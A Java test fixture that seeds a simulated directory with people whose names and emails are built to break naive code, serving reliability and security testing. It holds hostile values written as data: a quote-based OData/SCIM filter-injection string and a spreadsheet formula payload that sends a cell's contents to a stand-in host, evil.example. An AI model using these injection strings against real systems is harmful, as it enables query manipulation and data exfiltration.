package io.signoff.reliability;

import io.signoff.model.ProviderKind;
import io.signoff.simulator.Seed;
import java.time.Instant;
import java.util.ArrayList;
import java.util.EnumSet;
import java.util.List;

/**
 * The demo directory plus people whose names and addresses are hostile to naive code: quotes that end OData or SCIM
 * literals, backslashes, non-ASCII letters, spreadsheet formula starts (=, +, -, @). They are in all four providers.
 */
final class HostileSeed {
    /** Given name, family name, email: each person is a trap for a different kind of naive code. */
    static final List<List<String>> PEOPLE = List.of(
            List.of("Siobhán", "O'Brien", "o'brien@contoso.com"),
            List.of("\"x\" or userName pr", "Quoted", "\"x\" or userName pr\"@contoso.com"),
            List.of("Zoë", "Ångström-Łukasiewicz", "zoë@contoso.com"),
            List.of("=HYPERLINK(\"http://evil.example/?leak=\"&A1,\"Click\")", "Formula", "=HYPERLINK(\"http://evil.example\")@contoso.com"),
            List.of("+1", "Plus", "+1@contoso.com"),
            List.of("@SUM(1)", "Back\\slash", "back\\slash@contoso.com"),
            List.of("-2+3", "Minus;Semi,Comma", "minus-2+3@contoso.com"));

    private HostileSeed() { }

    static Seed seed(long seed) {
        Seed demo = Seed.demo(seed, Instant.now());
        Seed.Person jane = demo.people().stream().filter(p -> p.email().equals("jane.doe@contoso.com")).findFirst().orElseThrow();
        String contoso = demo.tenants().stream().filter(t -> t.mailDomain().equals("contoso.com"))
                .map(Seed.Tenant::defaultDomainName).findFirst().orElseThrow();
        String workspace = demo.slack().workspaces().get(0).id();
        List<Seed.Person> people = new ArrayList<>(demo.people());
        for (int i = 0; i < PEOPLE.size(); i++) {
            List<String> p = PEOPLE.get(i);
            people.add(new Seed.Person(String.format("p%05d", 90001 + i), p.get(0), p.get(1), p.get(2), List.of(), "Test subject",
                    contoso, EnumSet.allOf(ProviderKind.class), List.of(workspace), false, false, false, false, false,
                    jane.devices().subList(0, 1), demo.now()));
        }
        return new Seed(demo.tenants(), demo.slack(), demo.cloudflare(), demo.lucid(), people, demo.now());
    }

    static String email(int i) { return PEOPLE.get(i).get(2); }

    static String displayName(int i) { return PEOPLE.get(i).get(0) + " " + PEOPLE.get(i).get(1); }
}
